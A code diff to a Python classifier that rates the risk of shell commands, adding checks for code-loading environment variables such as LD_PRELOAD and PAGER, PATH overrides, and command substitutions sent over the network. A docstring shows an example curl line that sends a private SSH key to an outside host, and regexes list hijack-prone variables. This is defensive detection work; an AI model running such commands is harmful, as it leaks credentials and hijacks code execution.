@@ -41,6 +41,7 @@ _U, _C, _H, _M = RiskLevel.UNKNOWN, RiskLevel.CRITICAL, RiskLevel.HIGH_RISK, Ris
 _FILE = int(Capability.FILE_MODIFICATION)
 _DESTROY = int(Capability.DESTRUCTIVE)
 _SYS = int(Capability.SYSTEM_MODIFICATION)
+_NET = int(Capability.NETWORK_ACCESS)
 _HARMLESS = re.compile(r"^/dev/(null|zero|stdout|stderr|tty|fd/\d+)$")
 _BLOCK = re.compile(r"^/dev/(sd|nvme|hd|vd|xvd|mmcblk|md|dm-|loop|mapper/|disk)")
 _STARTUP = re.compile(r"(^|/)(\.bashrc|\.bash_profile|\.profile|\.zshrc|\.ssh/|\.gitconfig)")
@@ -239,6 +240,10 @@ def _command(ctx: _Ctx, seg: Segment, words: list[str | None], depth: int) -> No
             ctx.stages.setdefault(seg.pipe, []).append((seg.stage, name, reads))
         return
     ctx.add(seg.text, "wrapper", name, wrapped.level, wrapped.caps, wrapped.why)
+    for target in wrapped.writes:  # the wrapper's own output file, judged like a redirect
+        _redirect(ctx, Segment(seg.text, [], (f"{name} -o", target)))
+    if name in ("env", "sudo", "doas"):
+        _env(ctx, seg.text, _assignments(words[1:]), command=True)
     for inner in wrapped.inner:
         _command(ctx, seg, inner, depth + 1)
     for script in wrapped.scripts:
@@ -267,6 +272,50 @@ def _redirect(ctx: _Ctx, seg: Segment) -> None:
         ctx.add(seg.text, "redirect", op, _H, _FILE | _SYS, f"writes system or startup {target}")
     else:
         ctx.add(seg.text, "redirect", op, _M, _FILE, f"writes file {target}")
+
+
+# Variables that make a program load or run other code (HIGH), or look up code elsewhere.
+_CODE_ENV = re.compile(
+    r"^(LD_\w+|DYLD_\w+|GCONV_PATH|PERL5OPT|RUBYOPT|NODE_OPTIONS|PYTHONSTARTUP|PYTHONHOME|"
+    r"BASH_ENV|ENV|PROMPT_COMMAND|SHELLOPTS|BASHOPTS|IFS|PAGER|MANPAGER|SYSTEMD_PAGER|GIT_\w+|"
+    r"EDITOR|VISUAL|LESSOPEN|LESSCLOSE|SSH_ASKPASS|SUDO_ASKPASS|BROWSER|JAVA_TOOL_OPTIONS|"
+    r"_JAVA_OPTIONS|JDK_JAVA_OPTIONS|MAKEFLAGS|CC|CXX|LDFLAGS)$"
+)
+_PATH_ENV = frozenset({"PATH", "PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB"})
+
+
+def _assignments(words: list[str | None]) -> list[str]:
+    return [
+        w.split("=", 1)[0] for w in words if w and "=" in w and w.split("=", 1)[0].isidentifier()
+    ]
+
+
+def _env(ctx: _Ctx, text: str, names: Any, command: bool) -> None:
+    """``LD_PRELOAD=x.so ls``, ``export PAGER='sh -c …'``: variables that run other code."""
+    for name in names:
+        if _CODE_ENV.match(name) and not (name.startswith("GIT_") and name in _GIT_HARMLESS):
+            why = f"sets {name} (makes programs load or run other code)"
+            ctx.add(text, "environment", name, _H, 0, why)
+        elif command and name in _PATH_ENV:
+            why = f"sets {name} for the command (code is looked up in other places)"
+            ctx.add(text, "environment", name, _M, 0, why)
+
+
+_GIT_HARMLESS = frozenset(
+    {"GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"}
+    | {"GIT_AUTHOR_DATE", "GIT_COMMITTER_DATE", "GIT_TERMINAL_PROMPT", "GIT_TRACE"}
+)
+
+
+def _sends(ctx: _Ctx, seg: Segment, start: int) -> None:
+    """A command substitution in an argument of a command that talks to the network: its
+    output (a key, a file) can leave the machine (``curl "https://x/?k=$(cat ~/.ssh/id_rsa)"``)."""
+    caps = 0
+    for part in ctx.parts[start:]:
+        caps |= part[4]
+    if caps & _NET:
+        why = "sends the output of a command substitution over the network"
+        ctx.add(seg.text, "pipeline", "substitution->network", _H, _NET, why)
 
 
 def _pipelines(ctx: _Ctx, text: str) -> None:
@@ -300,8 +349,13 @@ def _text(ctx: _Ctx, text: str, depth: int) -> None:
     for seg in parsed.segments:
         if seg.redirect is not None:
             _redirect(ctx, seg)
-        else:
-            _command(ctx, seg, seg.words, depth)
+            continue
+        if seg.env:
+            _env(ctx, seg.text, seg.env, command=bool(seg.words))
+        start = len(ctx.parts)
+        _command(ctx, seg, seg.words, depth)
+        if seg.subst:
+            _sends(ctx, seg, start)
     if ctx.stages:
         _pipelines(ctx, text)
     ctx.stages = saved
